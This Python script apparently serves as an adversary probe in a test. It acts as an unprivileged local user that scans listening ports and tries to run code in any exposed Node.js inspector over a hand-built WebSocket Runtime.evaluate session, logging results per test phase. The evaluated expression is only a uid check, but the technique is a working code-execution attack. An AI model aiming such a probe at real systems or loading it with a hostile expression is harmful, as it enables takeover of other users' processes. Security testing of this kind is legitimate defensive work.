"""An unprivileged local user hunting for a Node inspector to run code in.

Run as nobody inside the target's network namespace (nsenter + setpriv).
Until its stop file appears it scans /proc/net/tcp and /proc/net/tcp6 for
listening sockets and tries each: GET /json/list, then a WebSocket session
with Runtime.evaluate. The phase the test is in is read from a file before
every round. Prints one JSON line per port tried, then a summary line.
Standard library only; every attempt has a short timeout.
"""
import base64
import json
import os
import socket
import struct
import sys
import time

phase_file, stop_file = sys.argv[1], sys.argv[2]


def listening():
    ports = set()
    for name, fam in (("/proc/net/tcp", socket.AF_INET), ("/proc/net/tcp6", socket.AF_INET6)):
        try:
            with open(name) as f:
                next(f)
                for line in f:
                    parts = line.split()
                    if parts[3] == "0A":
                        ports.add((fam, int(parts[1].split(":")[1], 16)))
        except OSError:
            pass
    return ports


def http_get(fam, port, path):
    host = "127.0.0.1" if fam == socket.AF_INET else "::1"
    c = socket.create_connection((host, port), timeout=1)
    c.sendall(("GET %s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n" % path).encode())
    data = b""
    while b"\r\n\r\n" not in data or len(data) < 64 * 1024:
        chunk = c.recv(65536)
        if not chunk:
            break
        data += chunk
        head, sep, rest = data.partition(b"\r\n\r\n")
        lens = [ln for ln in head.split(b"\r\n") if ln.lower().startswith(b"content-length:")]
        if sep and lens and len(rest) >= int(lens[0].split(b":")[1]):
            break
    c.close()
    return data.partition(b"\r\n\r\n")[2]


def evaluate(fam, port, ws_path):
    host = "127.0.0.1" if fam == socket.AF_INET else "::1"
    s = socket.create_connection((host, port), timeout=2)
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(("GET %s HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n" % (ws_path, key)).encode())
    buf = b""
    while b"\r\n\r\n" not in buf:
        chunk = s.recv(4096)
        if not chunk:
            raise ConnectionError("handshake EOF")
        buf += chunk
    if not buf.startswith(b"HTTP/1.1 101"):
        raise ConnectionError("refused: " + buf[:40].decode(errors="replace"))
    buf = buf.split(b"\r\n\r\n", 1)[1]
    msg = json.dumps({"id": 1, "method": "Runtime.evaluate",
                      "params": {"expression": "String(process.getuid())", "returnByValue": True}}).encode()
    mask = os.urandom(4)
    s.sendall(bytes([0x81, 0x80 | len(msg)]) + mask + bytes(b ^ mask[i & 3] for i, b in enumerate(msg)))
    end = time.time() + 2
    while time.time() < end:
        while len(buf) >= 2:
            n, off = buf[1] & 0x7F, 2
            if n == 126:
                n, off = struct.unpack(">H", buf[2:4])[0], 4
            if len(buf) < off + n:
                break
            op, data, buf = buf[0] & 0x0F, buf[off:off + n], buf[off + n:]
            if op == 8:
                raise ConnectionError("closed by the target")
            m = json.loads(data)
            if m.get("id") == 1:
                # end the session as a browser would: a client dropping its
                # socket while Node writes a close frame can crash Node 20
                s.sendall(bytes([0x88, 0x80]) + os.urandom(4))
                s.settimeout(1)
                try:
                    while s.recv(4096):
                        pass
                except OSError:
                    pass
                s.close()
                return m.get("result", {}).get("result", {}).get("value")
        chunk = s.recv(65536)
        if not chunk:
            raise ConnectionError("EOF")
        buf += chunk
    raise TimeoutError("no answer")


tried, seen, exposed = {}, {}, []
while not os.path.exists(stop_file):
    try:
        with open(phase_file) as f:
            phase = f.read().strip()
    except OSError:
        phase = "?"
    for fam, port in sorted(listening()):
        seen[phase] = seen.get(phase, 0) + 1
        try:
            body = http_get(fam, port, "/json/list")
            urls = [e.get("webSocketDebuggerUrl", "") for e in json.loads(body)]
        except OSError as e:
            print(json.dumps({"phase": phase, "port": port, "refused": str(e)[:80]}), flush=True)
            continue
        except (ValueError, AttributeError, TypeError):
            continue
        for url in urls:
            if not url.startswith("ws://"):
                continue
            tried[phase] = tried.get(phase, 0) + 1
            try:
                uid = evaluate(fam, port, "/" + url.split("/", 3)[3])
                exposed.append({"phase": phase, "port": port, "uid": uid})
                print(json.dumps(exposed[-1]), flush=True)
            except (OSError, ValueError, IndexError, ConnectionError, TimeoutError) as e:
                print(json.dumps({"phase": phase, "port": port, "refused": str(e)[:80]}), flush=True)
    time.sleep(0.002)
print(json.dumps({"summary": True, "seen": seen, "tried": tried, "exposed": exposed}), flush=True)
